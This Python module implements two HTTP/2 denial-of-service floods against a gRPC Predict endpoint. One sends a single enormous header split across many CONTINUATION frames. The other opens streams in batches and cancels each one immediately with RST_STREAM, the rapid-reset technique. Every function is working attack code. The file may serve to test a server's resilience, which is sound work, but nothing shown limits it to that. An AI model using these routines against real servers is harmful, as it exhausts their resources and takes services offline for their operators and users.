"""Floods of one connection that cost a server much and their sender little."""

import struct

import raw_http2 as http2

PREDICT = "/hypergan.v1.EnsembleService/Predict"
CANCEL = struct.pack(">I", 8)


def _integer(value):
    """HPACK's integer with a prefix of 7 bits (RFC 7541, 5.1), of 127 or more."""
    value -= 127
    octets = b"\x7f"
    while value >= 128:
        octets += bytes([value % 128 + 128])
        value //= 128
    return octets + bytes([value])


def send_one_long_header(connection, length):
    """A call one of whose headers has `length` bytes, in frames of 16 KiB.

    False once the other side has closed.
    """
    start = http2.grpc_headers(PREDICT) + b"\0\1x" + _integer(length)
    try:
        connection.send(http2.frame(http2.HEADERS, http2.END_STREAM, 1, start))
        piece = b"a" * 16384
        for _ in range(length // len(piece) - 1):
            connection.send(http2.frame(http2.CONTINUATION, 0, 1, piece))
        connection.send(http2.frame(http2.CONTINUATION, http2.END_HEADERS, 1, piece))
    except OSError:
        return False
    return True


def reset_calls(connection, count):
    """Starts calls and resets each at once; False once the other side has closed."""
    headers = http2.grpc_headers(PREDICT)
    try:
        for first in range(0, count, 100):
            connection.send(
                b"".join(
                    http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
                    + http2.frame(http2.RST_STREAM, 0, stream, CANCEL)
                    for stream in range(2 * first + 1, 2 * first + 201, 2)
                )
            )
    except OSError:
        return False
    return True
